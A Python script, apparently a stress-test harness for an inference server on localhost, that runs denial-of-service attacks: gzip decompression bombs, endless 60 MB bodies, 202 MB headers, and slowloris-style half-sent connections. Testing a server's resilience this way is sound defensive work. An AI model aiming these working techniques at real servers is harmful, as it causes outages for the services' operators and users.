"""One attack on an inference server's HTTP port, until the process is killed: `ATTACK PORT PATH`."""

from __future__ import annotations

import gzip
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from http.client import HTTPConnection, HTTPException
from itertools import cycle

MB = 1 << 20
BODIES, HALF_SENT = 20, 300
PAUSE_SECONDS = 0.02  # before an attack is repeated


def bombs(port: int, path: str) -> None:
    """Send gzip that expands a thousandfold, to JSON that takes even more memory."""
    packed = gzip.compress(b'{"inputs": [' + b"[]," * (20 * MB) + b"[]]}", 9)
    while True:
        with suppress(OSError, HTTPException):
            connection = HTTPConnection("127.0.0.1", port)
            connection.request("POST", path, packed, {"Content-Encoding": "gzip"})
            connection.getresponse().read()
            connection.close()
        time.sleep(PAUSE_SECONDS)


def bodies(port: int, path: str) -> None:
    """Send bodies of 60 MB that never end, several at a time."""
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {61 * MB}\r\n\r\n".encode()
    in_threads(BODIES, lambda: repeat(port, head, bytes(MB), 60))


def headers(port: int, path: str) -> None:
    """Send headers of 202 MB."""
    repeat(port, f"GET {path} HTTP/1.1\r\nX: ".encode(), b"x" * MB, 202)


def half_sent(port: int, path: str) -> None:
    """Keep connections open that stop within a request."""
    starts = cycle([b"", b"GET / HT", f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n{{".encode()])
    connections = []
    while True:
        with suppress(OSError):
            connections.append(socket.create_connection(("127.0.0.1", port), timeout=60))
            connections[-1].sendall(next(starts))
        for oldest in connections[:-HALF_SENT]:
            oldest.close()
        del connections[:-HALF_SENT]
        time.sleep(PAUSE_SECONDS / 10)


def repeat(port: int, head: bytes, part: bytes, parts: int) -> None:
    """Send a head and then parts repeatedly; if all were accepted, wait until the server closes the connection."""
    while True:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=60) as connection:
            connection.sendall(head)
            for _ in range(parts):
                connection.sendall(part)
            connection.recv(1)
        time.sleep(PAUSE_SECONDS)


def in_threads(count: int, attack: Callable[[], None]) -> None:
    """Run an attack in several threads."""
    threads = [threading.Thread(target=attack, daemon=True) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


ATTACKS: dict[str, Callable[[int, str], None]] = {
    "gzip bombs": bombs,
    "unfinished bodies": bodies,
    "endless headers": headers,
    "half-sent requests": half_sent,
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](int(sys.argv[2]), sys.argv[3])
